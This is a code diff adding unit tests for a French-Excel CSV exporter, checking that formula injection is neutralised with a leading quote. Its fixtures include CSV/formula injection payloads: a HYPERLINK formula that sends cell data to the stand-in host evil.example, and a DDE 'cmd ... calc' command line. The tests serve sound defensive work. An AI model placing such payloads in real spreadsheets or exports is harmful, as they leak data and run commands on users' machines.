@@ -1,4 +1,5 @@
 import { csvCell, csvRow, frenchAmount, frenchDate, frenchNumber } from '../../src/domain/csv';
+import { readCsv } from '../support/readCsv';
 import { hostQuota, maxConcurrent } from '../../src/domain/hostQuota';
 import { comparableName, nearlySameName } from '../../src/domain/organisationDuplicates';
 
@@ -15,6 +16,35 @@ describe('CSV for French Excel', () => {
     [42, '42'],
   ])('writes %p as %p', (value, expected) => {
     expect(csvCell(value)).toBe(expected);
+  });
+
+  it.each([
+    ['=HYPERLINK("https://evil.example";"Cliquez")', '"\'=HYPERLINK(""https://evil.example"";""Cliquez"")"'],
+    ['=1+1', "'=1+1"],
+    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
+    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', '"\'\r=1+1"'],
+    ['-', "'-"],
+    ['Jean-Pierre', 'Jean-Pierre'],
+    ['a=1', 'a=1'],
+  ])('neutralises the formula %p as %p (OWASP: a leading quote)', (value, expected) => {
+    expect(csvCell(value)).toBe(expected);
+  });
+
+  it.each([
+    [-4.5, '-4.5'],
+    ['-4,50', '-4,50'],
+    ['-616', '-616'],
+    ['4,35', '4,35'],
+  ])('keeps the number %p as a number: %p', (value, expected) => {
+    expect(csvCell(value)).toBe(expected);
+  });
+
+  it('reads back as the original text behind the quote, cell for cell', () => {
+    const values = ['=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', '@x', '-4,50', 'ligne\r\nsuivante', null];
+    expect(readCsv(csvRow(values.map((value) => value)))).toEqual([['\'=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', "'@x", '-4,50', 'ligne\r\nsuivante', '']]);
   });
 
   it('separates cells with ; and ends rows with CRLF', () => {
